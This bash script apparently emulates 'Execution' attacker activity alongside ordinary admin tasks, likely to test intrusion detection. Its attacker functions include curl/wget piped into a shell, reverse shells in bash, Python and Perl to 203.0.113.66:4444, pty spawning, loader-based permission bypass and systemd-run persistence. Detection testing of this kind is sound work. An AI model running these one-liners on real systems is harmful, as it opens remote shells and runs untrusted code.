#!/bin/bash
# Execution: somebody gets their own commands to run. Beside it, scripts and programs of every day.

# The intruder comes in through the container's web server.

internet_break_in() {
  exec 3<> /dev/tcp/172.18.0.2/8080
  printf 'GET /cgi-bin/status HTTP/1.0\r\n\r\n' >&3
  cat <&3
}

container_drop_a_program() {
  cp /usr/bin/id /tmp/upload
  /tmp/upload
  cp /usr/bin/id /dev/shm/upload
  /dev/shm/upload
}

container_tty_look_around() {
  id
  ls -l /data || true
}

# The intruder, on the host.

host_fetch_and_run() {
  bash -c 'curl -s http://cdn.example.net/tool.sh | bash'
  sh -c 'wget -q -O - http://cdn.example.net/tool.sh | sh'
  curl -s -o /tmp/tool.sh http://cdn.example.net/tool.sh
  chmod 755 /tmp/tool.sh
  /tmp/tool.sh
  bash /tmp/tool.sh
}

host_connect_a_shell() {
  bash -c 'exec 5<>/dev/tcp/203.0.113.66/4444; while read -r line <&5; do $line >&5 2>&1 || break; done' || true
  python3 -c 'import socket,subprocess,os;s=socket.create_connection(("203.0.113.66",4444));os.dup2(s.fileno(),0);subprocess.run(["sh"])' || true
  perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("203.0.113.66")));open(STDIN,"<&S");exec("/bin/sh");' || true
}

host_make_a_terminal() {
  echo exit | python3 -c 'import pty; pty.spawn("/bin/bash")' || true
  echo exit | script -q -c /bin/bash /dev/null || true
}

host_go_around_permissions() {
  cp /usr/bin/id /srv/data.bin
  chmod 644 /srv/data.bin
  /lib64/ld-linux-x86-64.so.2 /srv/data.bin
}

host_use_another_shell() {
  busybox sh -c 'id; true'
  vim -es -c ':silent !id' -c ':q!' /srv/data.bin || true
}

host_run_as_a_service() {
  systemd-run --on-calendar=daily /tmp/tool.sh || true
  cp /opt/tactic.sh /opt/at
  /opt/at now || true
}

now() {
  cat
}

# Ordinary work.

container_check_health() {
  sh -c 'cat /etc/hostname > /dev/null || exit 1'
}

internet_ask() {
  exec 3<> /dev/tcp/172.18.0.2/8080
  printf 'GET /index.html HTTP/1.0\r\n\r\n' >&3
  cat <&3
}

host_fetch() {
  curl -s -o /srv/list http://packages.example.org/
  wget -q -O /srv/list http://packages.example.org/
  sh -c 'curl -s http://packages.example.org/ | grep -c see' || true
}

host_cron_run_scripts() {
  python3 -c 'print(sum(range(10)))'
  perl -e 'print "done\n"'
  sh -c 'echo one | tr a-z A-Z'
  busybox ls /srv
  ldd /usr/bin/id
  python3 -c 'import socket; print(socket.gethostname())'
}

host_build() {
  mkdir -p /srv/build
  printf 'int main(void) { return 0; }\n' > /srv/build/main.c
  printf 'all: main\n\t./main\nmain: main.c\n\tgcc -o main main.c\n' > /srv/build/Makefile
  make -s -C /srv/build
  echo 'echo built' | sh
}

host_ask_the_manager() {
  systemctl list-units || true
}

host_install_package() {
  mkdir -p /tmp/stage/DEBIAN
  printf 'Package: orders\nVersion: 1.0\nArchitecture: all\nMaintainer: build <build@example.com>\nDescription: takes orders\n' > /tmp/stage/DEBIAN/control
  printf '#!/bin/sh\nset -e\ncp /usr/bin/true /tmp/check\n/tmp/check\nrm /tmp/check\n' > /tmp/stage/DEBIAN/postinst
  chmod 755 /tmp/stage/DEBIAN/postinst
  dpkg-deb --build --root-owner-group /tmp/stage /tmp/orders.deb
  dpkg --install /tmp/orders.deb
}

"$1" "${@:2}"
